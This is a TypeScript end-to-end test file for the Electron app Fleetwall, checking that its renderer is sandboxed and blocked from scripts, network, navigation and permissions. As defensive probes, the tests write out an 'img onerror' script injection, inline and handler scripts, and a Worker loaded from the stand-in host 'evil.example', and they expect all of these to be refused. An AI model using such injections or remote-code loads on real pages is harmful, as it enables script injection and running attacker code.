import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import { spawn } from 'node:child_process'
import { afterAll, beforeAll, expect, inject, it } from 'vitest'
import { launchElectron, type RunningElectron } from '../e2e/harness/electron-shell'
import { plainEnvironment } from '../e2e/harness/environment'
import { noKeyring } from '../e2e/harness/keyring'
import { outputOf } from '../e2e/harness/process'
import { programArguments } from '../e2e/harness/programs'
import { displayOf, inShell } from '../e2e/harness/shells'
import { startSimulator, type Simulator } from '../e2e/harness/simulator'
import { freshFolder, wallOf } from '../e2e/harness/wall'
import { startVisitedServer, type VisitedServer } from './visited-server'

inShell('electron', 'The page', () => {
  let app: RunningElectron
  let simulator: Simulator
  let elsewhere: VisitedServer
  let folder: Awaited<ReturnType<typeof freshFolder>>

  const found = () => {
    const electron = inject('shells').electron
    if (!electron) throw new Error('Electron is missing')
    return electron
  }

  beforeAll(async () => {
    simulator = await startSimulator({ devices: 2 })
    elsewhere = await startVisitedServer('elsewhere')
    folder = await freshFolder()
    const environment = { ...noKeyring, ...simulator.environment }
    app = await launchElectron(found(), { userDataDir: folder.path, environment })
    await wallOf(app).showsLive(2)
  })
  afterAll(async () => {
    await app.close()
    await elsewhere.close()
    await simulator.close()
    await folder.remove()
  })

  it('is sandboxed and isolated, without Node', async () => {
    const preferences = await app.electron.evaluate(({ webContents }) => {
      const [page] = webContents.getAllWebContents().filter((one) => one.getURL().startsWith('fleetwall:'))
      const { sandbox, contextIsolation, nodeIntegration, webSecurity } = (
        page as unknown as { getLastWebPreferences(): Electron.WebPreferences }
      ).getLastWebPreferences()
      return { sandbox, contextIsolation, nodeIntegration, webSecurity }
    })
    expect(preferences).toEqual({
      sandbox: true,
      contextIsolation: true,
      nodeIntegration: false,
      webSecurity: true,
    })
    const names = ['require', 'process', 'module', 'Buffer', 'global', 'electron', 'ipcRenderer']
    expect(await app.page.evaluate((all) => all.filter((name) => name in window), names)).toEqual([])
  })

  it('gets only the listed functions from the preload', async () => {
    const given = await app.page.evaluate(() => Object.keys(Reflect.get(window, 'fleetwall') as object))
    expect(given.toSorted()).toEqual([
      'connect',
      'hadCrashed',
      'isOnTop',
      'keepOnTop',
      'keepWords',
      'nextDisplay',
      'offerFiles',
      'openAddress',
      'openFleet',
      'openNotices',
      'openOwnWindow',
      'openWall',
      'platform',
      'reopenOwnWindows',
      'resizeOwnWindow',
      'tileWindows',
      'toggleFullScreen',
    ])
  })

  it('can’t offer a file that it created itself', async () => {
    const offers: unknown = await app.page.evaluate(() => {
      const { offerFiles } = Reflect.get(window, 'fleetwall') as { offerFiles(files: unknown[]): unknown }
      return offerFiles([new File(['bytes'], 'made.txt')])
    })
    expect(offers).toEqual([expect.objectContaining({ ok: false })])
  })

  it('has its own scheme', () => {
    expect(app.page.url()).toBe('fleetwall://app/')
  })

  it('runs only scripts that are its own files', async () => {
    const ran = await app.page.evaluate(() => {
      const script = document.createElement('script')
      const texts = [
        () => (script.textContent = 'window.ranInline = true'),
        () => (document.createElement('div').innerHTML = '<img onerror="window.ranInline = true" src="x">'),
        () => setTimeout('window.ranInline = true'),
        () => new Worker('https://evil.example/worker.js'),
      ]
      const allowed = texts.filter((give) => {
        try {
          give()
          return true
        } catch {
          return false
        }
      }).length
      document.head.append(script)
      const button = document.createElement('button')
      document.body.append(button)
      try {
        button.setAttribute('onclick', 'window.ranHandler = true')
      } catch {
        // The trusted types' policy refuses it; the content policy would not run it either.
      }
      button.click()
      button.remove()
      script.remove()
      return { allowed, ran: ['ranInline', 'ranHandler'].filter((name) => name in window) }
    })
    expect(ran).toEqual({ allowed: 0, ran: [] })
  })

  it.each([
    { guard: 'its policy', bypass: false },
    { guard: 'the session even without a policy', bypass: true },
  ])('can’t reach the network, because of $guard', async ({ bypass }) => {
    await app.devtools.send('Page.setBypassCSP', { enabled: bypass })
    await app.page.reload()
    await wallOf(app).showsLive(2)
    const outcomes = await app.page.evaluate(async (host) => {
      const settled = (start: (done: (outcome: string) => void) => void) => new Promise<string>(start)
      return {
        fetch: await fetch(`http://${host}/`).then(
          () => 'answered',
          () => 'refused',
        ),
        xhr: await settled((done) => {
          const request = new XMLHttpRequest()
          request.onload = () => done('answered')
          request.onerror = () => done('refused')
          request.open('GET', `http://${host}/`)
          request.send()
        }),
        webSocket: await settled((done) => {
          try {
            const socket = new WebSocket(`ws://${host}/`)
            socket.onopen = () => done('answered')
            socket.onerror = () => done('refused')
          } catch {
            done('refused')
          }
        }),
        image: await settled((done) => {
          const image = new Image()
          image.onload = () => done('answered')
          image.onerror = () => done('refused')
          image.src = `http://${host}/`
        }),
      }
    }, elsewhere.host)
    await app.devtools.send('Page.setBypassCSP', { enabled: false })
    expect(outcomes).toEqual({
      fetch: 'refused',
      xhr: 'refused',
      webSocket: 'refused',
      image: 'refused',
    })
    expect(elsewhere.visits()).toBe(0)
  })

  it('sends no packet past its policy, not even by WebRTC', async () => {
    const listener = createSocket('udp4')
    let packets = 0
    listener.on('message', () => (packets += 1))
    listener.bind(0, '127.0.0.1')
    await once(listener, 'listening')
    const { port } = listener.address()
    const candidates = await app.page.evaluate(async (at) => {
      const iceServers = [
        { urls: `stun:127.0.0.1:${at}` },
        { urls: `turn:127.0.0.1:${at}`, username: 'u', credential: 'c' },
      ]
      const connection = new RTCPeerConnection({ iceServers })
      const gathered = new Promise<void>((resolve) => {
        connection.onicegatheringstatechange = () => {
          if (connection.iceGatheringState === 'complete') resolve()
        }
      })
      let found = 0
      connection.onicecandidate = ({ candidate }) => (found += candidate ? 1 : 0)
      connection.createDataChannel('leak')
      await connection.setLocalDescription(await connection.createOffer())
      await Promise.race([gathered, new Promise((resolve) => setTimeout(resolve, 3000))])
      connection.close()
      return found
    }, port)
    listener.close()
    expect({ candidates, packets }).toEqual({ candidates: 0, packets: 0 })
  })

  it('can’t fetch even files of its own origin', async () => {
    const outcome = await app.page.evaluate(() =>
      fetch('fleetwall://app/index.html').then(
        () => 'read',
        () => 'refused',
      ),
    )
    expect(outcome).toBe('refused')
  })

  it('can’t open windows or navigate', async () => {
    const decided = app.electron.evaluate(({ BrowserWindow }) => {
      const page = BrowserWindow.getAllWindows()[0]?.webContents
      return new Promise<{ prevented: boolean; url: string }>((resolve) =>
        page?.once('will-navigate', (event) =>
          resolve({ prevented: event.defaultPrevented, url: event.url }),
        ),
      )
    })
    const url = `http://${elsewhere.host}/`
    // Electron runs these in order, so the listener above now exists.
    await app.electron.evaluate(() => true)
    expect(await app.page.evaluate((to) => window.open(to), url)).toBeNull()
    await app.page.evaluate((to) => {
      location.href = to
    }, url)
    expect(await decided).toEqual({ prevented: true, url })
    expect(app.page.url()).toBe('fleetwall://app/')
    expect(await app.electron.evaluate(({ BrowserWindow }) => BrowserWindow.getAllWindows().length)).toBe(1)
    expect(elsewhere.visits()).toBe(0)
  })

  it('gets no permission', async () => {
    const states = await app.page.evaluate(async () => {
      const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi', 'clipboard-read']
      const answers = names.map(async (name) => {
        const status = await navigator.permissions.query({ name: name as PermissionName })
        return status.state
      })
      return [...new Set(await Promise.all(answers))]
    })
    expect(states).toEqual(['denied'])
    const asked = await app.page.evaluate(async () => ({
      notification: await Notification.requestPermission(),
      camera: await navigator.mediaDevices.getUserMedia({ video: true }).then(
        () => 'granted',
        () => 'denied',
      ),
      clipboard: await navigator.clipboard.readText().then(
        () => 'granted',
        () => 'denied',
      ),
    }))
    expect(asked).toEqual({ notification: 'denied', camera: 'denied', clipboard: 'denied' })
  })

  it('stays the only one: a second start says so and exits', async () => {
    const { binary, displays } = found()
    const startAgain = async (...args: string[]) => {
      const second = spawn(binary, [...programArguments, '--user-data-dir', folder.path, ...args], {
        env: { ...plainEnvironment(), ...noKeyring, DISPLAY: displayOf({ displays }) },
        stdio: ['ignore', 'pipe', 'pipe'],
      })
      const output = outputOf(second)
      const [code] = await once(second, 'close')
      return [code, output.text()]
    }
    const running = 'Fleetwall is already running. Its window is now in front.'
    expect(await startAgain()).toEqual([0, expect.stringContaining(running)])
    const told = expect.stringContaining(`${running} To use --safe, quit it first.`) as string
    expect(await startAgain('--safe')).toEqual([1, told])
    await wallOf(app).showsLive(2)
  })
})
